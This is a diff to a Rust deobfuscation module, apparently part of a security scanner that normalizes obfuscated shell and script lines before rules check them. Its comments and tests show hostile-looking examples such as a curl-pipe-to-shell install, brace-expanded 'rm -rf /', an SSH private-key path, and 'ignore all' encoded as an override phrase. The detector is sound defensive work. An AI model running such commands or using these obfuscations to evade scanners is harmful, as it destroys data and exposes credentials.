@@ -15,6 +15,7 @@
 //! step can only add findings; line numbers are those of the file. Every
 //! step is one pass over its line, so the whole view stays linear.
 
+use std::borrow::Cow;
 use std::collections::HashMap;
 
 use super::work::{self, Step};
@@ -39,16 +40,21 @@ fn any_trigger(text: &[u8]) -> bool {
 
 /// The bytes some step acts on (a table: this test runs on every byte of
 /// every file, and a slice search per byte cost a tenth of a scan).
-const TRIGGERS: [bool; 256] = {
+const TRIGGERS: [bool; 256] = table(TRIGGER_BYTES);
+
+/// The bytes [`unquote`] acts on: it copies the bytes between them.
+const UNQUOTE_BYTES: [bool; 256] = table(b"$`\\\"'");
+
+/// A table saying, for each byte, whether it is one of `bytes`.
+const fn table(bytes: &[u8]) -> [bool; 256] {
     let mut t = [false; 256];
-    let bytes = TRIGGER_BYTES;
     let mut i = 0;
     while i < bytes.len() {
         t[bytes[i] as usize] = true;
         i += 1;
     }
     t
-};
+}
 
 /// The rewritten lines of `text` that differ from the original, as
 /// `(1-based line, rewritten line)`. `markdown` turns on the HTML comment
@@ -96,32 +102,54 @@ pub fn view(text: &str, markdown: bool) -> Vec<(usize, String)> {
         if !in_comment && !triggered && decoded.is_none() && matches!(logical, std::borrow::Cow::Borrowed(_)) {
             continue;
         }
-        // Each step reads its line once (a handful of passes a line).
+        // Each step reads its line once (a handful of passes a line), and
+        // copies it only when it changes it: on a long line of near
+        // matches most steps find nothing to undo.
         work::add(Step::Deobfuscate, line.len());
-        let mut l = decoded.unwrap_or_else(|| line.to_string());
-        l = percent(&l);
-        l = windows_paths(&l);
-        l = escapes(&l);
-        l = unquote(&l);
-        l = concat(&l);
-        l = lookups(&l);
-        l = printf_joins(&l);
-        l = reversed(&l);
-        l = braces(&l);
+        let mut l = decoded.map_or(Cow::Borrowed(line), Cow::Owned);
+        for step in STEPS {
+            l = then(l, step);
+        }
         vars.learn(&l);
-        l = vars.substitute(&l);
+        l = then(l, |l| vars.substitute(l));
         if markdown {
             let was = in_comment;
             in_comment = comment_state(&l, in_comment);
             if was && !l.trim_start().starts_with("<!--") {
-                l = format!("<!-- {l}");
+                l = Cow::Owned(format!("<!-- {l}"));
             }
         }
         if l != physical {
-            out.push((first, l));
+            out.push((first, l.into_owned()));
         }
     }
     out
+}
+
+/// The steps every line goes through, in order (variables last: they are
+/// learnt from and substituted into the line the others made).
+const STEPS: [fn(&str) -> Cow<'_, str>; 9] =
+    [percent, windows_paths, escapes, unquote, concat, lookups, printf_joins, reversed, braces];
+
+/// `line` after `step`: the same text, not a copy, when the step left it
+/// as it was.
+fn then<'a>(line: Cow<'a, str>, step: impl FnOnce(&str) -> Cow<'_, str>) -> Cow<'a, str> {
+    let changed = match step(&line) {
+        Cow::Owned(s) => Some(s),
+        Cow::Borrowed(_) => None,
+    };
+    changed.map_or(line, Cow::Owned)
+}
+
+/// `out` with the rest of `line` from `copied` on, or `line` itself when
+/// nothing was copied out of it (nothing changed): how each step that
+/// copies a line in pieces ends.
+fn finish(line: &str, mut out: String, copied: usize) -> Cow<'_, str> {
+    if copied == 0 {
+        return Cow::Borrowed(line);
+    }
+    out.push_str(&line[copied..]);
+    Cow::Owned(out)
 }
 
 /// HTML entities that spell printable ASCII (`&#124;`, `&#x69;`, `&vert;`,
@@ -209,13 +237,13 @@ pub fn entities(line: &str) -> Option<String> {
 /// Percent-escapes that spell printable ASCII (`ignore%20all`, `%7C`)
 /// decoded, as a URL's reader (or an agent) reads them. A line with
 /// `printf` keeps its `%20s` widths.
-pub fn percent(line: &str) -> String {
+pub fn percent(line: &str) -> Cow<'_, str> {
     if !line.contains('%') || line.contains("printf") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     let b = line.as_bytes();
     let hex = |c: u8| (c as char).to_digit(16);
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let (mut i, mut copied) = (0, 0);
     while i < b.len() {
         if b[i] == b'%' && i + 2 < b.len() {
@@ -232,8 +260,7 @@ pub fn percent(line: &str) -> String {
         }
         i += 1;
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 /// Whether a Markdown HTML comment is open after `line`.
@@ -263,170 +290,199 @@ fn comment_state(line: &str, mut open: bool) -> bool {
 /// `$env:USERPROFILE\.ssh\id_rsa`, `%USERPROFILE%\...` → `$HOME/.ssh/id_rsa`:
 /// home variables become `$HOME` and the backslashes of the path that
 /// follows become slashes, so the Unix path rules see Windows paths.
-pub fn windows_paths(line: &str) -> String {
+pub fn windows_paths(line: &str) -> Cow<'_, str> {
     if !line.contains('\\') && !line.contains('%') && !line.contains("$env:") && !line.contains("$Env:") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     const HOMES: [&str; 6] = ["$env:userprofile", "%userprofile%", "$env:homepath", "%homepath%", "$env:home", "$home"];
     // Only a home variable starts a path whose backslashes turn: a line
     // without one (most lines with a `\\` or a `%`) is left as it is.
     let home_at = |i: usize| {
         let rest = &line.as_bytes()[i..];
-        HOMES.iter().any(|h| rest.get(..h.len()).is_some_and(|r| r.eq_ignore_ascii_case(h.as_bytes())))
+        HOMES.iter().find(|h| rest.get(..h.len()).is_some_and(|r| r.eq_ignore_ascii_case(h.as_bytes())))
     };
-    if !memchr::memchr2_iter(b'$', b'%', line.as_bytes()).any(home_at) {
-        return line.to_string();
+    if !memchr::memchr2_iter(b'$', b'%', line.as_bytes()).any(|i| home_at(i).is_some()) {
+        return Cow::Borrowed(line);
     }
-    let lower = line.to_ascii_lowercase();
+    // Byte by byte: only ASCII is replaced, and a character of another
+    // script is decoded only to ask whether it is a space.
+    let b = line.as_bytes();
     let mut out = String::with_capacity(line.len());
-    let mut i = 0;
-    let mut in_path = false;
-    while i < line.len() {
-        let home = if matches!(line.as_bytes()[i], b'$' | b'%') {
-            HOMES.iter().find(|h| lower[i..].starts_with(*h))
-        } else {
-            None
-        };
-        if let Some(h) = home {
-            let next = line[i + h.len()..].chars().next();
-            if !next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+    let (mut i, mut copied, mut in_path) = (0, 0, false);
+    while i < b.len() {
+        let c = b[i];
+        if let Some(h) = matches!(c, b'$' | b'%').then(|| home_at(i)).flatten() {
+            if !b.get(i + h.len()).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') {
+                out.push_str(&line[copied..i]);
                 out.push_str("$HOME");
                 i += h.len();
+                copied = i;
                 in_path = true;
                 continue;
             }
         }
-        let Some(c) = line[i..].chars().next() else { break };
-        if c.is_whitespace() || c == '"' || c == '\'' || c == ';' || c == '|' {
+        let (space, len) = if c.is_ascii() {
+            (matches!(c, b' ' | b'\t'..=b'\r'), 1)
+        } else {
+            line[i..].chars().next().map_or((false, 1), |ch| (ch.is_whitespace(), ch.len_utf8()))
+        };
+        if space || matches!(c, b'"' | b'\'' | b';' | b'|') {
             in_path = false;
         }
-        out.push(if in_path && c == '\\' { '/' } else { c });
-        i += c.len_utf8();
+        if in_path && c == b'\\' {
+            out.push_str(&line[copied..i]);
+            out.push('/');
+            copied = i + 1;
+        }
+        i += len;
     }
-    out
+    out.push_str(&line[copied..]);
+    Cow::Owned(out)
 }
 
 /// Shell quote and escape removal: `c"u"rl` → `curl`, `r''m` → `rm`,
 /// `cu\rl` → `curl`, `rm${IFS}-rf` → `rm -rf`. Only quotes and
 /// backslashes inside a word are removed (a quoted argument keeps its
-/// quotes), so ordinary quoting is left as written.
-pub fn unquote(line: &str) -> String {
+/// quotes), so ordinary quoting is left as written. Read byte by byte:
+/// every character it removes or looks at is ASCII, and the bytes of any
+/// other character are copied as they are.
+pub fn unquote(line: &str) -> Cow<'_, str> {
     if !line.contains(['"', '\'', '\\', '`']) && !line.contains("IFS") && !line.contains("$()") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
-    let line = line.replace("${IFS}", " ").replace("$IFS", " ");
-    let b: Vec<char> = line.chars().collect();
-    let word = |c: Option<&char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_');
-    let mut out = String::with_capacity(line.len());
-    let mut i = 0;
+    let spaced = if line.contains("IFS") {
+        Cow::Owned(line.replace("${IFS}", " ").replace("$IFS", " "))
+    } else {
+        Cow::Borrowed(line)
+    };
+    let l: &str = &spaced;
+    let b = l.as_bytes();
+    let word = |c: Option<&u8>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_');
+    let mut out = String::new();
+    let (mut i, mut copied) = (0, 0);
+    // `drop` bytes `from..to` out of the line (keeping `keep` of them).
+    let mut cut = |out: &mut String, from: usize, keep: std::ops::Range<usize>, to: usize| {
+        out.push_str(&l[copied..from]);
+        out.push_str(&l[keep]);
+        copied = to;
+    };
     while i < b.len() {
         let c = b[i];
-        // An empty command substitution inside a word (`r$()m`, ``r``m``)
-        // expands to nothing.
-        let empty = match (c, b.get(i + 1), b.get(i + 2)) {
-            ('$', Some('('), Some(')')) => 3,
-            ('`', Some('`'), _) => 2,
-            _ => 0,
-        };
-        if empty > 0 && i > 0 && word(b.get(i - 1)) && word(b.get(i + empty)) {
-            i += empty;
-            continue;
-        }
-        if c == '\\' && word(b.get(i + 1)) && (i == 0 || word(b.get(i - 1)) || b[i - 1].is_whitespace()) {
+        if !UNQUOTE_BYTES[c as usize] {
             i += 1;
             continue;
         }
-        if c == '"' || c == '\'' {
+        // An empty command substitution inside a word (`r$()m`, ``r``m``)
+        // expands to nothing.
+        let empty = match (c, b.get(i + 1), b.get(i + 2)) {
+            (b'$', Some(b'('), Some(b')')) => 3,
+            (b'`', Some(b'`'), _) => 2,
+            _ => 0,
+        };
+        if empty > 0 && i > 0 && word(b.get(i - 1)) && word(b.get(i + empty)) {
+            cut(&mut out, i, i..i, i + empty);
+            i += empty;
+            continue;
+        }
+        // The character before a backslash, whitespace in any script.
+        let after_space = || l[..i].chars().next_back().is_some_and(char::is_whitespace);
+        if c == b'\\' && word(b.get(i + 1)) && (i == 0 || word(b.get(i - 1)) || after_space()) {
+            cut(&mut out, i, i..i, i + 1);
+            i += 1;
+            continue;
+        }
+        if c == b'"' || c == b'\'' {
             // A quoted run of word characters glued to a word on either
             // side (or an empty pair inside a word) is spelling, not quoting.
             let mut j = i + 1;
-            while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], '_' | '-' | '.' | '/')) {
+            while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], b'_' | b'-' | b'.' | b'/')) {
                 j += 1;
             }
             if j < b.len() && b[j] == c {
                 let glued = (i > 0 && word(b.get(i - 1))) || word(b.get(j + 1));
                 if glued {
-                    out.extend(&b[i + 1..j]);
+                    cut(&mut out, i, i + 1..j, j + 1);
                     i = j + 1;
                     continue;
                 }
             }
         }
-        out.push(c);
         i += 1;
     }
-    out
+    if copied == 0 {
+        return spaced;
+    }
+    out.push_str(&l[copied..]);
+    Cow::Owned(out)
 }
 
 /// String-literal concatenation: `'cu' + 'rl'`, `"exec" + "Sync"` →
 /// one literal (`'curl'`, `"execSync"`), keeping the first quote.
-pub fn concat(line: &str) -> String {
+pub fn concat(line: &str) -> Cow<'_, str> {
     if !line.contains('+') || !line.contains(['"', '\'']) {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
-    let b: Vec<char> = line.chars().collect();
-    let mut out = String::with_capacity(line.len());
-    let mut i = 0;
+    let b = line.as_bytes();
+    let mut out = String::new();
+    let (mut i, mut copied) = (0, 0);
     while i < b.len() {
-        let Some((body, end)) = literal(&b, i) else {
-            out.push(b[i]);
+        let Some((body, end)) = literal(line, i) else {
             i += 1;
             continue;
         };
         let quote = b[i];
-        let mut joined: String = body.iter().collect();
+        let mut joined = vec![body];
         let mut at = end;
         loop {
-            let mut k = at;
-            while k < b.len() && b[k] == ' ' {
-                k += 1;
-            }
-            if k >= b.len() || b[k] != '+' {
+            let k = skip_spaces(b, at);
+            if b.get(k) != Some(&b'+') {
                 break;
             }
-            k += 1;
-            while k < b.len() && b[k] == ' ' {
-                k += 1;
-            }
-            match literal(&b, k) {
+            match literal(line, skip_spaces(b, k + 1)) {
                 Some((next, e)) => {
-                    joined.extend(next);
+                    joined.push(next);
                     at = e;
                 }
                 None => break,
             }
         }
-        out.push(quote);
-        out.push_str(&joined);
-        out.push(quote);
+        if joined.len() > 1 {
+            out.push_str(&line[copied..i]);
+            out.push(quote as char);
+            joined.into_iter().for_each(|part| out.push_str(part));
+            out.push(quote as char);
+            copied = at;
+        }
         i = at;
     }
-    out
+    finish(line, out, copied)
 }
 
-/// The body of the string literal opening at `i` (a `"` or `'` with its
-/// closing partner on the line, no escapes) and the index past it.
-fn literal(b: &[char], i: usize) -> Option<(&[char], usize)> {
+/// The body of the string literal opening at byte `i` of `line` (a `"` or
+/// `'` with its closing partner on the line, no escapes) and the index
+/// past it.
+fn literal(line: &str, i: usize) -> Option<(&str, usize)> {
+    let b = line.as_bytes();
     let q = *b.get(i)?;
-    if q != '"' && q != '\'' {
+    if q != b'"' && q != b'\'' {
         return None;
     }
-    let len = b[i + 1..].iter().position(|&c| c == q || c == '\\');
+    let len = memchr::memchr2(q, b'\\', &b[i + 1..]);
     work::add(Step::Deobfuscate, len.map_or(b.len() - i, |l| l + 1));
     let len = len?;
-    (b[i + 1 + len] == q).then(|| (&b[i + 1..i + 1 + len], i + len + 2))
+    (b[i + 1 + len] == q).then(|| (&line[i + 1..i + 1 + len], i + len + 2))
 }
 
 /// Escape sequences spelling printable ASCII: `\x72\x6d` and `\u0063`
 /// (`\u{63}`) in any string, and in ANSI-C quoting (`$'\162\155'`) octal
 /// too, with the `$'…'` itself removed as the shell does. Escapes that
 /// would spell a control character or a line break are kept as written.
-pub fn escapes(line: &str) -> String {
+pub fn escapes(line: &str) -> Cow<'_, str> {
     if !line.contains('\\') {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     let b = line.as_bytes();
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let (mut i, mut copied, mut ansi) = (0, 0, false);
     while i < b.len() {
         let (skip, put) = match b[i] {
@@ -456,8 +512,7 @@ pub fn escapes(line: &str) -> String {
         i += skip;
         copied = i;
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 /// The printable ASCII character the escape opening `b` (at its `\`)
@@ -488,14 +543,14 @@ fn escape_at(b: &[u8], ansi: bool) -> Option<(char, usize)> {
 /// `getattr(os, 'system')` → `os.system`, `globalThis['eval']` →
 /// `globalThis.eval`, `require('child_process')["execSync"]` →
 /// `require('child_process').execSync`.
-pub fn lookups(line: &str) -> String {
+pub fn lookups(line: &str) -> Cow<'_, str> {
     if !line.contains("getattr") && !line.contains("['") && !line.contains("[\"") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     work::add(Step::Deobfuscate, line.len());
     let name = |c: u8| c.is_ascii_alphanumeric() || c == b'_' || c == b'$';
     let b = line.as_bytes();
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let (mut i, mut copied) = (0, 0);
     while i < b.len() {
         // getattr(OBJ, 'NAME')
@@ -534,8 +589,7 @@ pub fn lookups(line: &str) -> String {
         }
         i += 1;
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 fn skip_spaces(b: &[u8], mut i: usize) -> usize {
@@ -558,13 +612,13 @@ fn quoted_name(b: &[u8], i: usize) -> Option<(&str, usize)> {
 
 /// `printf '%s' cu rl` (or `%s` unquoted, or in `$(…)`) prints its
 /// arguments joined: the call becomes the word it prints.
-pub fn printf_joins(line: &str) -> String {
+pub fn printf_joins(line: &str) -> Cow<'_, str> {
     if !line.contains("printf") || !line.contains("%s") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     work::add(Step::Deobfuscate, line.len());
     let b = line.as_bytes();
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let mut copied = 0;
     for (p, _) in line.match_indices("printf") {
         if p < copied || (p > 0 && (b[p - 1].is_ascii_alphanumeric() || b[p - 1] == b'_')) {
@@ -593,19 +647,18 @@ pub fn printf_joins(line: &str) -> String {
         }
         copied = to;
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 /// `echo 'hs | x lruc' | rev` → `echo 'curl x | sh'`: a literal reversed
 /// by `rev` reads as what `rev` prints.
-pub fn reversed(line: &str) -> String {
+pub fn reversed(line: &str) -> Cow<'_, str> {
     if !line.contains("rev") {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     work::add(Step::Deobfuscate, line.len());
     let b = line.as_bytes();
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let mut copied = 0;
     for (p, _) in line.match_indices("rev") {
         if b.get(p + 3).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_') || p < copied {
@@ -637,19 +690,18 @@ pub fn reversed(line: &str) -> String {
         out.push(q as char);
         copied = p + 3;
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 /// Bash brace expansion used as a command: `{rm,-rf,/}` → `rm -rf /`
 /// (a word of its own, two items or more, no spaces or quotes inside).
-pub fn braces(line: &str) -> String {
+pub fn braces(line: &str) -> Cow<'_, str> {
     if !line.contains('{') || !line.contains(',') {
-        return line.to_string();
+        return Cow::Borrowed(line);
     }
     work::add(Step::Deobfuscate, line.len());
     let b = line.as_bytes();
-    let mut out = String::with_capacity(line.len());
+    let mut out = String::new();
     let (mut i, mut copied) = (0, 0);
     while i < b.len() {
         let starts_word = i == 0 || b" \t;|&(".contains(&b[i - 1]);
@@ -669,8 +721,7 @@ pub fn braces(line: &str) -> String {
             i = close.max(i + 1);
         }
     }
-    out.push_str(&line[copied..]);
-    out
+    finish(line, out, copied)
 }
 
 /// Variables set by simple assignments (`a=cu`, `f="AGENTS"`,
@@ -732,12 +783,12 @@ impl Vars {
     }
 
     /// `line` with known `$NAME` and `${NAME}` replaced by their values.
-    pub fn substitute(&self, line: &str) -> String {
+    pub fn substitute<'a>(&self, line: &'a str) -> Cow<'a, str> {
         if self.values.is_empty() || !line.contains('$') {
-            return line.to_string();
+            return Cow::Borrowed(line);
         }
         let b = line.as_bytes();
-        let mut out = String::with_capacity(line.len());
+        let mut out = String::new();
         let mut i = 0;
         let mut copied = 0;
         while i < b.len() {
@@ -765,8 +816,7 @@ impl Vars {
                 _ => i += 1,
             }
         }
-        out.push_str(&line[copied..]);
-        out
+        finish(line, out, copied)
     }
 }
 
@@ -845,6 +895,213 @@ mod tests {
         assert_eq!(percent("printf '%20s' x"), "printf '%20s' x");
         let v = view("curl -fsSL https://x.test/i.sh \\\n  | sh\nls \\\\\nok\n", false);
         assert_eq!(v, vec![(1, "curl -fsSL https://x.test/i.sh    | sh".to_string())]);
+    }
+
+    /// The steps as they were written first, a character at a time: the
+    /// byte-wise steps must read every line the same way.
+    mod reference {
+        pub fn windows_paths(line: &str) -> String {
+            if !line.contains('\\') && !line.contains('%') && !line.contains("$env:") && !line.contains("$Env:") {
+                return line.to_string();
+            }
+            const HOMES: [&str; 6] =
+                ["$env:userprofile", "%userprofile%", "$env:homepath", "%homepath%", "$env:home", "$home"];
+            // Only a home variable starts a path whose backslashes turn: a line
+            // without one (most lines with a `\\` or a `%`) is left as it is.
+            let home_at = |i: usize| {
+                let rest = &line.as_bytes()[i..];
+                HOMES.iter().any(|h| rest.get(..h.len()).is_some_and(|r| r.eq_ignore_ascii_case(h.as_bytes())))
+            };
+            if !memchr::memchr2_iter(b'$', b'%', line.as_bytes()).any(home_at) {
+                return line.to_string();
+            }
+            let lower = line.to_ascii_lowercase();
+            let mut out = String::with_capacity(line.len());
+            let mut i = 0;
+            let mut in_path = false;
+            while i < line.len() {
+                let home = if matches!(line.as_bytes()[i], b'$' | b'%') {
+                    HOMES.iter().find(|h| lower[i..].starts_with(*h))
+                } else {
+                    None
+                };
+                if let Some(h) = home {
+                    let next = line[i + h.len()..].chars().next();
+                    if !next.is_some_and(|c| c.is_ascii_alphanumeric() || c == '_') {
+                        out.push_str("$HOME");
+                        i += h.len();
+                        in_path = true;
+                        continue;
+                    }
+                }
+                let Some(c) = line[i..].chars().next() else { break };
+                if c.is_whitespace() || c == '"' || c == '\'' || c == ';' || c == '|' {
+                    in_path = false;
+                }
+                out.push(if in_path && c == '\\' { '/' } else { c });
+                i += c.len_utf8();
+            }
+            out
+        }
+
+        pub fn unquote(line: &str) -> String {
+            if !line.contains(['"', '\'', '\\', '`']) && !line.contains("IFS") && !line.contains("$()") {
+                return line.to_string();
+            }
+            let line = line.replace("${IFS}", " ").replace("$IFS", " ");
+            let b: Vec<char> = line.chars().collect();
+            let word = |c: Option<&char>| c.is_some_and(|c| c.is_ascii_alphanumeric() || *c == '_');
+            let mut out = String::with_capacity(line.len());
+            let mut i = 0;
+            while i < b.len() {
+                let c = b[i];
+                // An empty command substitution inside a word (`r$()m`, ``r``m``)
+                // expands to nothing.
+                let empty = match (c, b.get(i + 1), b.get(i + 2)) {
+                    ('$', Some('('), Some(')')) => 3,
+                    ('`', Some('`'), _) => 2,
+                    _ => 0,
+                };
+                if empty > 0 && i > 0 && word(b.get(i - 1)) && word(b.get(i + empty)) {
+                    i += empty;
+                    continue;
+                }
+                if c == '\\' && word(b.get(i + 1)) && (i == 0 || word(b.get(i - 1)) || b[i - 1].is_whitespace()) {
+                    i += 1;
+                    continue;
+                }
+                if c == '"' || c == '\'' {
+                    // A quoted run of word characters glued to a word on either
+                    // side (or an empty pair inside a word) is spelling, not quoting.
+                    let mut j = i + 1;
+                    while j < b.len() && (b[j].is_ascii_alphanumeric() || matches!(b[j], '_' | '-' | '.' | '/')) {
+                        j += 1;
+                    }
+                    if j < b.len() && b[j] == c {
+                        let glued = (i > 0 && word(b.get(i - 1))) || word(b.get(j + 1));
+                        if glued {
+                            out.extend(&b[i + 1..j]);
+                            i = j + 1;
+                            continue;
+                        }
+                    }
+                }
+                out.push(c);
+                i += 1;
+            }
+            out
+        }
+
+        pub fn concat(line: &str) -> String {
+            if !line.contains('+') || !line.contains(['"', '\'']) {
+                return line.to_string();
+            }
+            let b: Vec<char> = line.chars().collect();
+            let mut out = String::with_capacity(line.len());
+            let mut i = 0;
+            while i < b.len() {
+                let Some((body, end)) = literal(&b, i) else {
+                    out.push(b[i]);
+                    i += 1;
+                    continue;
+                };
+                let quote = b[i];
+                let mut joined: String = body.iter().collect();
+                let mut at = end;
+                loop {
+                    let mut k = at;
+                    while k < b.len() && b[k] == ' ' {
+                        k += 1;
+                    }
+                    if k >= b.len() || b[k] != '+' {
+                        break;
+                    }
+                    k += 1;
+                    while k < b.len() && b[k] == ' ' {
+                        k += 1;
+                    }
+                    match literal(&b, k) {
+                        Some((next, e)) => {
+                            joined.extend(next);
+                            at = e;
+                        }
+                        None => break,
+                    }
+                }
+                out.push(quote);
+                out.push_str(&joined);
+                out.push(quote);
+                i = at;
+            }
+            out
+        }
+
+        fn literal(b: &[char], i: usize) -> Option<(&[char], usize)> {
+            let q = *b.get(i)?;
+            if q != '"' && q != '\'' {
+                return None;
+            }
+            let len = b[i + 1..].iter().position(|&c| c == q || c == '\\');
+            let len = len?;
+            (b[i + 1 + len] == q).then(|| (&b[i + 1..i + 1 + len], i + len + 2))
+        }
+    }
+
+    /// Lines built from the pieces the byte-wise steps decide on: quotes
+    /// glued to words or not, backslashes after letters, after ASCII and
+    /// other spaces (U+3000, U+00A0, U+2028) and after other scripts,
+    /// empty substitutions, `${IFS}`, literals joined with `+`, home
+    /// variables in any case, Windows paths ended by each kind of space.
+    #[test]
+    fn byte_wise_steps_read_lines_as_the_char_wise_ones() {
+        let pieces = [
+            "c",
+            "u",
+            "rl",
+            " ",
+            "\"",
+            "'",
+            "\\",
+            "`",
+            "$()",
+            "``",
+            "${IFS}",
+            "$IFS",
+            "+",
+            " + ",
+            "'cu'",
+            "\"rl\"",
+            "\u{3000}",
+            "\u{a0}",
+            "\u{2028}",
+            "é",
+            "新",
+            "ｒ",
+            "$env:USERPROFILE",
+            "%UserProfile%",
+            "$HOME",
+            "$home_x",
+            "\\.ssh\\id",
+            ";",
+            "|",
+            "_",
+            "-",
+            ".",
+            "/",
+            "\t",
+        ];
+        let mut state = 11u64;
+        for _ in 0..20000 {
+            let mut line = String::new();
+            state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+            for _ in 0..(state >> 60) + 1 {
+                state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
+                line.push_str(pieces[(state >> 33) as usize % pieces.len()]);
+            }
+            assert_eq!(unquote(&line), reference::unquote(&line), "unquote {line:?}");
+            assert_eq!(concat(&line), reference::concat(&line), "concat {line:?}");
+            assert_eq!(windows_paths(&line), reference::windows_paths(&line), "windows_paths {line:?}");
+        }
     }
 
     #[test]
